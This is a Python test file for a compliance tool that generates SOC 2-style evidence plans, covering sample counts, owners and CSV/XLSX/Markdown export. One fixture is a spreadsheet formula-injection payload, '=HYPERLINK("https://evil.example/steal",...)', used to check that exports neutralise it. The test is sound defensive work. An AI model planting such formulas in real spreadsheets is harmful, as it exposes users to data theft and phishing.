"""The evidence plan: items derived from the controls in force, counted for the window, exported safely."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import BIN, run
from policyforge import TemplateError
from policyforge.kit._evidence import (
    COLUMNS,
    RECURRING,
    AuditWindow,
    EvidencePlan,
    evidence_csv,
    evidence_page,
    evidence_plan,
    load_evidence_systems,
    occurrences,
    recorded_in,
    spreadsheet_safe,
)
from policyforge.kit._sampling import load_sampling
from policyforge.model import Library, facts_from_answers, load_library, resolve_answers
from policyforge.model._catalog import id_order
from policyforge.program import Program, program_from_library
from policyforge.program._proof import evidence_map
from policyforge.render import markdown_to_html

slow = pytest.mark.slow
SECURITY_ONLY = {"scope_availability": "no", "scope_confidentiality": "no", "scope_processing_integrity": "no",
                 "scope_privacy": "no", "data_pii": "no"}
HOSTILE_TOOL = '=HYPERLINK("https://evil.example/steal","Jira")'


@pytest.fixture(scope="module")
def library() -> Library:
    return load_library()


def program_for(library: Library, **answers: str) -> Program:
    facts = facts_from_answers(resolve_answers(answers))
    return program_from_library(facts, library, as_of=dt.date(2027, 1, 1))


def rows_by_id(plan: EvidencePlan) -> dict[str, dict[str, str | int]]:
    return {row.item.id: dict(zip(COLUMNS, row.values(), strict=True)) for row in plan.rows}


# ------------------------------------------------------------------------------------------- the plan
@pytest.mark.parametrize("answers", [{}, SECURITY_ONLY, {"report_type": "type1"},
                                     {**SECURITY_ONLY, "report_type": "type1"}],
                         ids=["all five, type II", "security only, type II", "all five, type I", "security, type I"])
def test_every_control_in_force_has_at_least_one_evidence_item(library: Library, answers: dict[str, str]) -> None:
    program = program_for(library, **answers)
    proved = {cid for row in evidence_plan(program).rows for cid in row.controls}
    in_force = {c.id for c in program.controls()}
    assert in_force, "the example company has controls"
    assert in_force - proved == set()
    assert proved <= in_force


# The evidence of the PCI DSS controls (GOV-13, NET-08, NET-09, VUL-09), in force only with card data.
CARD_DATA_ITEMS = {"EV-104", "EV-105", "EV-106", "EV-107"}


def test_example_company_plan_holds_every_catalog_item_once(library: Library) -> None:
    plan = evidence_plan(program_for(library))
    ids = [row.item.id for row in plan.rows]
    # The example holds no card data, so the items of the card-data controls are not asked of it.
    assert ids == sorted(set(library.catalog.evidence) - CARD_DATA_ITEMS, key=id_order)
    assert len(plan.controls) == 190  # the lean program of the 21-50 example: 38 of 228 merged (AUP-05 is in AST-04)


def test_evidence_ids_sort_by_number_not_as_text(library: Library) -> None:
    assert sorted(["EV-13", "EV-100", "EV-10", "EV-99", "EV-2"], key=id_order) == \
        ["EV-2", "EV-10", "EV-13", "EV-99", "EV-100"]
    program = program_for(library)
    ids = [row.item.id for row in evidence_plan(program).rows]
    assert ids.index("EV-99") + 1 == ids.index("EV-100") and ids.index("EV-10") + 1 == ids.index("EV-11")
    # The page lists each owner's items in that order, as do the CSV rows and the matrix's item-to-control index.
    for section in evidence_page(program).split("\n## ")[1:]:
        listed = re.findall(r"^\| \*\*(EV-\d+) ", section, re.MULTILINE)
        assert listed == sorted(listed, key=id_order), listed
    csv_ids = [line.split(",", 1)[0] for line in evidence_csv(evidence_plan(program)).splitlines()[1:]]
    assert csv_ids == ids
    assert list(evidence_map(program).proving()) == ids


def _records_in(program: Program, cid: str, eid: str) -> bool:
    """Return whether a control in force has a duty (its own, or one merged into it) the item records."""
    host = next(c for c in program.controls() if c.id == cid)
    duties = [program.control(d) for d in (cid, *host.merges)]
    return any(d is not None and eid in d.evidence and recorded_in(d, eid) for d in duties)


def test_six_month_type2_window_counts_each_control_at_its_own_row_of_the_sampling_table(library: Library) -> None:
    program = program_for(library)
    plan = evidence_plan(program)
    sampling = load_sampling(library.root)
    window = plan.window
    frequencies = {c.id: c.frequency for c in program.controls()}
    for row in plan.rows:
        if row.item.kind == "document":
            assert (row.needed, row.counts) == (1, ()), row.item.id
            continue
        # A control that names its record (record:, issue #12) is counted there alone.
        counted = {cid for cid in row.controls if frequencies[cid] in ("continuous", *RECURRING)
                   and _records_in(program, cid, row.item.id)}
        events = any(frequencies[cid] == "per-event" for cid in row.controls)
        if row.item.kind == "population" and not events:
            # A population of the runs themselves (every bulletin sent) holds every run: nothing to add.
            assert (row.needed, row.counts) == ("population", ()), row.item.id
            continue
        # Every recurring or continuous control the item proves is counted once, at its own row.
        assert {count.control for count in row.counts} == counted, row.item.id
        for count in row.counts:
            size = sampling.size(count.frequency)
            assert size is not None
            assert count.count == (size if count.frequency == "continuous" else
                                   min(size, occurrences(count.frequency, window))), (row.item.id, count)
        total = sum(count.count for count in row.counts)
        if row.item.kind == "population":
            assert row.needed == (f"population + {total}" if total else "population"), row.item.id
        else:
            assert row.needed == (total or 1), row.item.id


def test_a_mixed_item_asks_for_the_sum_of_its_controls_counts_not_the_most_frequent_ones(library: Library) -> None:
    # A-E5: each item was counted at its most frequent control's row (EV-21 3, EV-27 10, EV-55 10, EV-58 1), so
    # ten weekly tag reports stood for two quarterly inventory reconciliations. The auditor selects per control.
    rows = {row.item.id: row for row in evidence_plan(program_for(library)).rows}
    assert rows["EV-21"].needed_text == "5 = 3 × ACC-03 (monthly) + 2 × ACC-05 (quarterly)"
    # The game day, the plan review and the DR test each name the month the control calendar runs them in.
    assert rows["EV-58"].needed_text == ("3 = 1 × AVL-07 (semiannual, run in January 2027) + 1 × BCP-05 (annual, run "
                                         "in January 2027) + 1 × BCP-07 (annual, run in January 2027)")
    # AST-08's yearly run is recorded in the risk assessment (EV-13), no longer counted here too (issue #12): 20.
    assert [(c.control, c.count) for c in rows["EV-27"].counts] == [
        ("END-01", 2), ("AST-01", 10), ("AST-02", 2), ("AST-03", 2), ("LOG-09", 2), ("GOV-07", 1), ("PMG-02", 1)]
    assert rows["EV-27"].needed == 20
    # Controls merged into a lean host are run and recorded with it: one count serves the host and BAK-03/04.
    # The weekly coverage reviews of BAK-05 (EV-66) and the inventory approvals of BAK-01 (EV-115) are their own
    # records, no longer counted in the backup configuration too (issue #12): 4, not 16.
    assert rows["EV-55"].needed_text == "4 = 2 × BAK-02 with BAK-03, BAK-04 (continuous, one run) + 2 × BCP-03 " \
                                        "(continuous)"
    # A population of events adds the runs of the recurring controls it proves that it records: the provisioning
    # records counted the runs of ACC-03, AUT-01 and ACC-01 (merged into PMG-02) as well as their own records
    # until issue #12 ("population + 6"); their records are the access reviews (EV-21), the identity provider's
    # settings (EV-23) and the role matrix (EV-116), so it is the population alone. A population that adds runs:
    assert rows["EV-18"].needed == "population" and rows["EV-18"].needed_count == 1 and rows["EV-18"].counts == ()
    assert rows["EV-16"].needed == "population + 3" and rows["EV-16"].needed_count == 4
    assert [(c.control, c.count) for c in rows["EV-16"].counts] == [("PMG-06", 2), ("MON-07", 1)]
    cells = dict(zip(COLUMNS, rows["EV-21"].values(), strict=True))
    assert (cells["Needed"], cells["Basis"]) == (
        5, "5 dated artefacts, per control (sampling table): 3 × ACC-03 (monthly) + 2 × ACC-05 (quarterly)")
    # The page prints the same per-control numbers.
    page = evidence_page(program_for(library))
    assert "| 5 = 3 × ACC-03 (monthly) + 2 × ACC-05 (quarterly) |" in page


def test_changing_the_sampling_table_changes_the_counts(library: Library, tmp_path: Path) -> None:
    root = tmp_path / "lib"
    shutil.copytree(library.root, root)
    table = root / "catalog" / "sampling.yaml"
    table.write_text(table.read_text(encoding="utf-8").replace("  monthly: 3\n", "  monthly: 5\n"), encoding="utf-8")
    changed = load_library(root)
    rows = rows_by_id(evidence_plan(program_for(changed, access_review_cadence="monthly")))
    # Both access reviews now run monthly, each counted at the table's (changed) monthly row.
    assert (rows["EV-21"]["Frequency"], rows["EV-21"]["Needed"]) == ("monthly", 10)


def test_sampling_table_without_a_size_for_a_frequency_is_refused_with_line_and_fix(tmp_path: Path) -> None:
    (tmp_path / "catalog").mkdir()
    (tmp_path / "catalog" / "sampling.yaml").write_text(
        "source: x\nsizes:\n  continuous: 2\n  daily: 25\n  weekly: ten\n  monthly: 3\n  quarterly: 2\n"
        "  semiannual: 2\n  annual: 1\nper_event: 25\n", encoding="utf-8")
    with pytest.raises(TemplateError) as caught:
        load_sampling(tmp_path)
    problem = caught.value.problems[0]
    assert "sizes.weekly" in problem.message and problem.line == 5 and problem.fix


def test_window_lengths_turn_into_counts_per_period() -> None:
    six = AuditWindow("type2", dt.date(2027, 1, 1), 6)
    assert six.end == dt.date(2027, 6, 30)
    assert [occurrences(p, six) for p in ("daily", "weekly", "monthly", "quarterly", "semiannual", "annual")] == \
        [181, 26, 6, 2, 1, 1]
    year = AuditWindow("type2", dt.date(2027, 3, 15), 12)
    assert [occurrences(p, year) for p in ("monthly", "quarterly", "semiannual", "annual")] == [12, 4, 2, 1]
    assert occurrences("quarterly", AuditWindow("type2", dt.date(2027, 1, 1), 4)) == 2  # two quarters touched


def test_access_review_evidence_follows_the_company_cadence(library: Library) -> None:
    rows = rows_by_id(evidence_plan(program_for(library, access_review_cadence="monthly")))
    # Sampling table: monthly 3, for the conflict review (ACC-03) and for the access review (ACC-05) each.
    assert (rows["EV-21"]["Frequency"], rows["EV-21"]["Needed"]) == ("monthly", 6)


def test_type1_plan_lists_only_type1_items_as_of_the_date(library: Library) -> None:
    program = program_for(library, report_type="type1")
    plan = evidence_plan(program)
    catalog = library.catalog.evidence
    assert plan.rows and all(row.item.type1 for row in plan.rows)
    assert {row.needed for row in plan.rows} == {"as of 2027-01-01"}
    assert {row.item.id for row in plan.rows} == {e for e, item in catalog.items() if item.type1} - CARD_DATA_ITEMS
    # A control proved only by operating evidence is shown by its approved policy.
    assert "AUP-06" in plan.design_only  # ACC-02 runs with DCL-04 in the lean example, whose EV-21 a Type I asks for
    policy_row = rows_by_id(plan)["EV-01"]
    assert set(plan.design_only) <= set(str(policy_row["Controls"]).split(", "))
    assert "Type I as of 1 January 2027" in evidence_page(program, plan)


def test_out_of_scope_categories_add_no_items(library: Library) -> None:
    everything = evidence_plan(program_for(library))
    security = evidence_plan(program_for(library, **SECURITY_ONLY))
    all_ids = {row.item.id for row in everything.rows}
    security_ids = {row.item.id for row in security.rows}
    assert security_ids < all_ids
    # The privacy request log, the privacy notice record and the processing integrity checks serve
    # only categories that are now out of scope.
    assert {"EV-61", "EV-62", "EV-63"} <= all_ids - security_ids
    for row in security.rows:
        assert row.criteria and all(c.startswith("CC") for c in row.criteria), row.item.id
        # AVL-04, the capacity review, is stated in POL-18 4.8.2 for every company (issue #13, T12).
        assert not any(cid.startswith(("PRV-", "PIN-", "AVL-", "CNF-")) for cid in row.controls
                       if cid != "AVL-04"), row.item.id


def test_owner_is_the_named_person_for_the_controls_role(library: Library) -> None:
    rows = rows_by_id(evidence_plan(program_for(library)))
    assert (rows["EV-21"]["Owner"], rows["EV-21"]["Owner email"]) == \
        ("Priya Natarajan, Security Officer", "priya.natarajan@acme.example")
    assert rows["EV-61"]["Owner"] == "Tomás Ferreira, Privacy Officer"
    assert rows["EV-55"]["Owner"] == "Rahul Mehta, Chief Technology Officer"


def test_systems_are_named_with_the_company_tools(library: Library) -> None:
    rows = rows_by_id(evidence_plan(program_for(library, identity_provider="Entra ID", cloud_providers="gcp")))
    assert rows["EV-21"]["System"] == "Entra ID, Jira"
    assert rows["EV-55"]["System"] == "Backup and DR Service"  # derived from the cloud, not the example
    assert rows["EV-10"]["System"] == "KnowBe4"
    assert rows["EV-33"]["System"] == "Google Cloud"
    assert rows["EV-04"]["System"] == "documents"


def test_evidence_systems_file_covers_every_catalog_item_with_tool_facts(library: Library) -> None:
    systems = load_evidence_systems(library.root, set(library.catalog.evidence))
    assert set(systems) == set(library.catalog.evidence)
    assert all(path == "cloud" or path.startswith(("stack.", "company.")) for paths in systems.values()
               for path in paths)


def test_broken_evidence_systems_file_is_reported_with_line_and_fix(mini_library: Path) -> None:
    path = mini_library / "catalog" / "evidence_systems.yaml"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"^  EV-05:.*\n", "", text, flags=re.MULTILINE)
    text = text.replace("EV-13: {system: [stack.ticketing]}", "EV-13: {system: [stack.crm]}")
    path.write_text(text, encoding="utf-8")
    line = text.splitlines().index(next(x for x in text.splitlines() if x.startswith("  EV-13:"))) + 1
    with pytest.raises(TemplateError) as caught:
        load_evidence_systems(mini_library, set(load_library(mini_library).catalog.evidence))
    messages = [str(p) for p in caught.value.problems]
    assert f"{path}:{line}: EV-13: 'stack.crm' is not a tool fact — use `cloud` or a fact such as stack.ticketing" \
        in messages
    assert any(m.startswith(f"{path}: EV-05: no system given — add `EV-05:") for m in messages)


# ------------------------------------------------------------------------------------------- the page
def test_page_groups_items_by_owner_under_a_summary(library: Library) -> None:
    page = evidence_page(program_for(library))
    lines = page.splitlines()
    assert lines[0] == "# Evidence plan"
    # 113: the eight items added so each control has a record on its own subject (EV-110 to EV-117, issue #12).
    assert lines[2].startswith("113 evidence items prove the 190 controls in force (Security, Availability, ")
    assert "Type II observation window 1 January 2027 to 30 June 2027 (6 months): " in lines[2]
    headings = [line for line in lines if line.startswith("## ")]
    # The CEO approves payments and bank-detail changes (COC-05), so owns their evidence.
    assert headings == ["## Dana Whitfield, Chief Executive Officer",
                        "## Rahul Mehta, Chief Technology Officer", "## Priya Natarajan, Security Officer",
                        "## Tomás Ferreira, Privacy Officer", "## Grace Okafor, Head of People"]
    assert "[ACC-05](POL-13-access-control.md#control-acc-05)" in page
    html = markdown_to_html(page)
    assert "<table>" in html and not re.search(r"<(img|script|link|iframe)\b", html)


def test_company_values_are_escaped_on_the_page(library: Library) -> None:
    program = program_for(library, ticketing="<b>Jira</b> | *x*", security_officer_name="Priya_[Nat]")
    html = markdown_to_html(evidence_page(program))
    assert "&lt;b&gt;Jira&lt;/b&gt; | *x*" in html
    assert "<b>Jira" not in html
    assert "Priya_[Nat], Security Officer</h2>" in html


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"])
def test_spreadsheet_formula_starts_get_a_leading_apostrophe(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Jira", "1Password", "a=b", ""])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert spreadsheet_safe(value) == value


# ------------------------------------------------------------------------------------------- the command
@pytest.fixture
def repo(example_source: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "acme-cloud"
    shutil.copytree(example_source, copy, symlinks=True)
    return copy


def evidence(repo: Path, *args: str, check: bool = True) -> tuple[int, str, str]:
    result = run([str(BIN / "policyforge"), "evidence", "--repo", str(repo), *args], check=check)
    assert "Traceback" not in result.stderr
    return result.returncode, result.stdout, result.stderr


def set_tool(repo: Path, value: str) -> None:
    path = repo / "company.yml"
    text = path.read_text(encoding="utf-8")
    assert 'ticketing: "Jira"' in text
    quoted = "'" + value.replace("'", "''") + "'"
    path.write_text(text.replace('ticketing: "Jira"', f"ticketing: {quoted}"), encoding="utf-8")


@slow
def test_csv_reads_back_with_one_row_per_item(repo: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.csv"
    _, _, stderr = evidence(repo, "--format", "csv", "--out", str(out))
    assert "Evidence plan: 113 items for 190 controls" in stderr
    with out.open(encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    assert tuple(table[0]) == COLUMNS
    assert len(table) == 114  # a header and the 113 evidence items
    row = dict(zip(COLUMNS, next(r for r in table if r[0] == "EV-21"), strict=True))
    assert row["Evidence"] == "User access reviews"
    # ACC-03's conflict review runs at its named cadence (monthly), the most frequent control EV-21 proves.
    # It is counted per control: 3 monthly conflict reviews (ACC-03) and 2 quarterly access reviews (ACC-05).
    assert (row["Kind"], row["Frequency"], row["Type I"], row["Needed"]) == ("periodic", "monthly", "yes", "5")
    assert row["Basis"] == ("5 dated artefacts, per control (sampling table): 3 × ACC-03 (monthly) + 2 × ACC-05 "
                            "(quarterly)")
    assert (row["Status"], row["Due"], row["Link"]) == ("Not started", "2027-06-30", "")
    assert row["Assignee"] == row["Owner"].split(",")[0]
    assert row["System"] == "Okta, Jira"
    assert row["Controls"] == "ACC-03, ACC-05, AUT-06, DCL-04"  # each cites EV-21 itself; none is folded (lean)
    # Only the criteria of the controls that cite EV-21 themselves: a lean host's merged joiner duties
    # (CC1.x, CC2.x) are not proved by an access review.
    assert row["Criteria"] == "CC5.1, CC6.1, CC6.2, CC6.3, C1.1"


@slow
def test_xlsx_has_the_same_rows_a_frozen_filtered_header_and_set_widths(repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    evidence(repo, "--format", "csv", "--out", str(tmp_path / "plan.csv"))
    evidence(repo, "--format", "xlsx", "--out", str(tmp_path / "plan.xlsx"))
    book = load_workbook(tmp_path / "plan.xlsx")
    sheet = book["Evidence plan"]
    cells = [[("" if v is None else v.date().isoformat() if isinstance(v, dt.datetime) else str(v)) for v in row]
             for row in sheet.iter_rows(values_only=True)]
    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as handle:
        assert cells == list(csv.reader(handle))
    assert sheet.freeze_panes == "A2"
    # 113 items and the header; 18 columns, the last the frequencies of the controls.
    assert sheet.auto_filter.ref == "A1:R114"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["C"].width == 70 and sheet.column_dimensions["A"].width == 8
    assert sheet["G2"].value == 1 and sheet["G2"].data_type == "n"  # counts are numbers, for sorting
    header = [cell.value for cell in sheet[1]]
    for name in ("Status", "Due", "Assignee", "Link", "Basis"):
        assert name in header
    column = {name: header.index(name) for name in header}
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert all(isinstance(row[column["Needed"]], int) and row[column["Needed"]] >= 1 for row in rows)
    assert {row[column["Due"]] for row in rows} == {dt.datetime(2027, 6, 30)}  # the window's last day, as a date
    assert {row[column["Status"]] for row in rows} == {"Not started"}
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list" and "Accepted by auditor" in str(validation.formula1)
    population = next(row for row in rows if row[column["Basis"]].startswith("1 full population export;"))
    assert population[column["Needed"]] == 1
    assert book.properties.created == book.properties.modified == dt.datetime(2026, 12, 1)


@slow
def test_hostile_tool_name_cannot_run_as_a_formula(repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    set_tool(repo, HOSTILE_TOOL)
    evidence(repo, "--format", "csv", "--out", str(tmp_path / "plan.csv"))
    evidence(repo, "--format", "xlsx", "--out", str(tmp_path / "plan.xlsx"))
    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as handle:
        rows = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in csv.reader(handle)}
    assert rows["EV-13"]["System"] == "'" + HOSTILE_TOOL
    assert rows["EV-21"]["System"] == "Okta, " + HOSTILE_TOOL  # not at the start: harmless as it stands
    sheet = load_workbook(tmp_path / "plan.xlsx")["Evidence plan"]
    cell = next(row[COLUMNS.index("System")] for row in sheet.iter_rows(min_row=2) if row[0].value == "EV-13")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_TOOL, "s", True)
    with zipfile.ZipFile(tmp_path / "plan.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    _, page, _ = evidence(repo, "--format", "md", "--out", "-")
    html = markdown_to_html(page)
    assert 'HYPERLINK("https://evil.example/steal","Jira")</td>' in html
    assert "evil.example/steal" in html and 'href="https://evil' not in html


@slow
def test_every_format_is_byte_identical_on_a_second_run(repo: Path, tmp_path: Path) -> None:
    for fmt in ("md", "csv", "xlsx"):
        evidence(repo, "--format", fmt, "--out", str(tmp_path / f"first.{fmt}"))
        evidence(repo, "--format", fmt)  # default place: out/evidence-plan.<format>
        assert (tmp_path / f"first.{fmt}").read_bytes() == (repo / "out" / f"evidence-plan.{fmt}").read_bytes(), fmt
    with zipfile.ZipFile(tmp_path / "first.xlsx") as archive:
        # Dated from the release (the last approval), not from the moment of writing.
        assert {info.date_time for info in archive.infolist()} == {(2026, 12, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
        for field in ("created", "modified"):
            assert re.search(f"<dcterms:{field}[^>]*>2026-12-01T00:00:00Z</dcterms:{field}>", core), field


@slow
def test_markdown_goes_to_the_terminal_with_out_dash(repo: Path) -> None:
    _, page, _ = evidence(repo, "--out", "-")
    assert page.startswith("# Evidence plan\n")
    assert io.StringIO(page).readline() == "# Evidence plan\n"


@slow
def test_bad_inputs_exit_2_with_the_fix(repo: Path, tmp_path: Path) -> None:
    code, _, stderr = evidence(tmp_path / "nowhere", check=False)
    assert code == 2
    assert "company.yml: not found — run policyforge inside the company repository" in stderr
    code, _, stderr = evidence(repo, "--format", "xlsx", "--out", "-", check=False)
    assert code == 2 and "give a file name" in stderr
    path = repo / "company.yml"
    path.write_text(path.read_text(encoding="utf-8").replace('report_type: "type2"', 'report_type: "type3"'),
                    encoding="utf-8")
    code, _, stderr = evidence(repo, check=False)
    assert code == 2 and "report_type" in stderr and "choose from type2, type1" in stderr


def test_needed_is_a_number_for_every_row_and_the_basis_says_what_it_counts(library: Library) -> None:
    for answers in ({}, {"report_type": "type1"}):
        plan = evidence_plan(program_for(library, **answers))
        for row in plan.rows:
            cells = dict(zip(COLUMNS, row.values(), strict=True))
            assert isinstance(cells["Needed"], int) and cells["Needed"] >= 1, row.item.id
            if row.needed == "population":
                # The auditor draws the sampling table's per-event sample (25) from every occurrence exported.
                assert (cells["Needed"], cells["Basis"]) == (1, "1 full population export; the auditor draws 25 "
                                                             "occurrences from it (sampling table, per event), or "
                                                             "every occurrence if there are fewer")
            elif str(row.needed).startswith("population + "):
                extra = int(str(row.needed).rsplit(" ", 1)[1])
                assert cells["Needed"] == extra + 1 and f"plus {extra} dated artefact" in str(cells["Basis"])
            elif str(row.needed).startswith("as of "):
                assert cells["Basis"] == f"1 artefact {row.needed}"
            assert cells["Due"] == plan.window.end and cells["Status"] == "Not started"
            assert cells["Assignee"] and str(cells["Owner"]).startswith(str(cells["Assignee"]))


def test_the_quarterly_on_call_rota_check_is_its_own_control_with_two_records_in_the_window(library: Library) -> None:
    controls = {c.id: c for c in program_for(library).controls()}
    assert controls["INC-09"].frequency == "annual" and controls["INC-10"].frequency == "quarterly"
    assert "on-call rota" not in controls["INC-09"].statement
    page = evidence_page(program_for(library))
    row = next(line for line in page.splitlines() if "EV-73 On-call rota" in line)
    assert "| quarterly (INC-10) | 2 × INC-10 (quarterly) |" in row


def test_facts_in_evidence_text_are_escaped_once_and_the_library_text_reads_as_markdown(library: Library) -> None:
    # A-O3/N-O6: the rendered evidence detail (Markdown whose facts are already escaped) was escaped again,
    # so EV-02 printed "\`policyforge acknowledgements export\`" and a fact's "&" came out as "&amp;amp;".
    from policyforge.kit._evidence_text import plain_text
    from policyforge.program._lint import variant_program
    program = variant_program("acme-us", library, {"ticketing": "Jira & *Desk*"})
    page = evidence_page(program)
    row = next(line for line in page.splitlines() if line.startswith("| **EV-06 "))
    assert "and the Jira &amp; \\*Desk\\* ticket of each review" in row
    assert "&amp;amp;" not in page and "\\\\" not in page and "\\`" not in page
    html = markdown_to_html(row)
    assert "the Jira &amp; *Desk* ticket of each review" in html and "<em>" not in html
    cells = {r.item.id: r.values() for r in evidence_plan(program).rows}
    assert "the Jira & *Desk* ticket of each review" in str(cells["EV-06"][2])  # the spreadsheet's plain text
    assert plain_text("the `x` & \\*y\\*") == "the x & *y*"


def test_evidence_text_names_the_artefact_not_the_tool_that_makes_it(library: Library) -> None:
    # A-O3/N-O6: "exported with `policyforge acknowledgements export`" and "(out/trust/ of the reviewed commit)".
    from policyforge.program._lint import variant_program
    from policyforge.rules._kit_rules import printed_rows
    internals = re.compile(r"policyforge|\bout/|people/\w+\.csv|company\.yml|`")
    for name in ("acme-us", "nimbus-uk"):
        rows = printed_rows(variant_program(name, library))
        assert [(r.page, r.evidence, m.group(0)) for r in rows for m in internals.finditer(r.text)] == []
        ev02 = next(r.text for r in rows if r.evidence == "EV-02" and r.page == "evidence.md")
        assert ("the acknowledgement records (the dated export of the personnel roster and of the acknowledgement "
                "register, one row per person and policy version)") in ev02


def test_the_speaking_up_evidence_names_the_channel_the_control_defines_not_the_hr_system(library: Library) -> None:
    # A-O2/N-O5: EV-07 was "config" in Rippling while COC-04 makes the outside security adviser the channel of a
    # company of 1-20 people with no board; and Nimbus, which announces outages by email, was asked for a status page.
    from policyforge.program._lint import variant_program
    for name, channel in (("nimbus-uk", "The engagement letter that makes the outside security adviser "
                                        "Harriet Cole the speaking-up channel"),
                          ("acme-us", "The contract with the independent provider that runs the reporting channel")):
        program = variant_program(name, library)
        rows = {r.item.id: r for r in evidence_plan(program).rows}
        assert rows["EV-07"].item.detail.startswith(channel) and rows["EV-07"].systems == ()
        assert "Rippling" not in evidence_page(program).split("| **EV-07 ", 1)[1].split("\n", 1)[0]
    nimbus = evidence_page(variant_program("nimbus-uk", library)).split("| **EV-06 ", 1)[1].split("\n", 1)[0]
    assert "status page" not in nimbus and "incident notices emailed to customers' administrative contacts" in nimbus
